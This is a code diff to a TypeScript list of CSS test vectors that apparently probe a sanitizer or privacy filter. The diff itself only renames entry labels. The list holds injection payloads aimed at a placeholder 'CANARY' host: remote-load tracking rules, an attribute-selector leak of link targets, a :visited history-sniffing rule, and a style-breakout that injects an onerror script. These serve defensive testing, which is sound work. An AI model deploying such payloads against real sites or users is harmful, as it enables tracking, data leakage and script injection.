@@ -43,7 +43,7 @@ export const styleVectors: Vectors = afterWords({
   'background of an attribute':
     '<style>p{background:image-set(attr(title))}</style><p title="https://CANARY/attr.gif">x</p>',
   'image-set': rule('background:image-set("https://CANARY/set.gif" 1x)'),
-  'image-set of old': rule('background:-webkit-image-set(url(https://CANARY/webkit-set.gif) 1x)'),
+  'prefixed image-set': rule('background:-webkit-image-set(url(https://CANARY/webkit-set.gif) 1x)'),
   'cross-fade': rule('background:-webkit-cross-fade(url(https://CANARY/fade.gif),url(https://CANARY/fade2.gif),50%)'),
   'address with a referrer policy': rule('background:url("https://CANARY/policy.gif" referrer-policy(unsafe-url))'),
   'address with an origin': rule('background:url("https://CANARY/cors.gif" cross-origin(use-credentials))'),
@@ -53,7 +53,7 @@ export const styleVectors: Vectors = afterWords({
   'content of the element': rule('content:url(https://CANARY/element.gif)'),
   cursor: rule('cursor:url(https://CANARY/cursor.cur),auto'),
   mask: rule('mask:url(https://CANARY/mask.gif)'),
-  'mask of old': rule('-webkit-mask-image:url(https://CANARY/webkit-mask.gif)'),
+  'prefixed mask': rule('-webkit-mask-image:url(https://CANARY/webkit-mask.gif)'),
   'mask of a border': rule('-webkit-mask-box-image:url(https://CANARY/mask-box.gif)'),
   reflection: rule('-webkit-box-reflect:below 0 url(https://CANARY/reflect.gif)'),
   shape: rule('float:left;shape-outside:url(https://CANARY/shape.gif)'),
@@ -65,7 +65,7 @@ export const styleVectors: Vectors = afterWords({
   'font by letters':
     '<style>@font-face{font-family:x;src:url(https://CANARY/A.woff);unicode-range:U+41}p{font-family:x}</style><p>A</p>',
   'font of the product': '<style>@font-face{font-family:x;src:url(/favicon.svg)}p{font-family:x}</style><p>x</p>',
-  'colours of a font':
+  'colors of a font':
     '<style>@font-face{font-family:x;src:url(https://CANARY/f.woff2)tech(color-COLRv1)}p{font:9px x}</style><p>x</p>',
   'counter style':
     '<style>@counter-style x{system:cyclic;symbols:url(https://CANARY/symbol.gif)}li{list-style:x}</style><li>x</li>',
@@ -75,9 +75,9 @@ export const styleVectors: Vectors = afterWords({
     '<style>@view-transition{navigation:auto}::view-transition{background:url(https://CANARY/view.gif)}</style>',
   'selector of an attribute':
     '<style>a[href^="https://firm"]{background:url(https://CANARY/leak-a)}</style><a href="https://firm.example/">x</a>',
-  'selector of what was visited':
+  'selector of a visited link':
     '<style>a:visited{background:url(https://CANARY/visited)}a:link{background:url(https://CANARY/link)}</style><a href="https://firm.example">x</a>',
-  'selector of what it holds': '<style>body:has(p){background:url(https://CANARY/has)}</style><p>x</p>',
+  'selector of contents': '<style>body:has(p){background:url(https://CANARY/has)}</style><p>x</p>',
   'style that ends in its text': '<style>p{font-family:"</style><img src=x onerror=PWN>"}</style>',
   'style by a type':
     '<style type="text/x" media=all>p{background:url(https://CANARY/typed.gif)}</style><style type=text/css>@import url(https://CANARY/css-type);</style>',
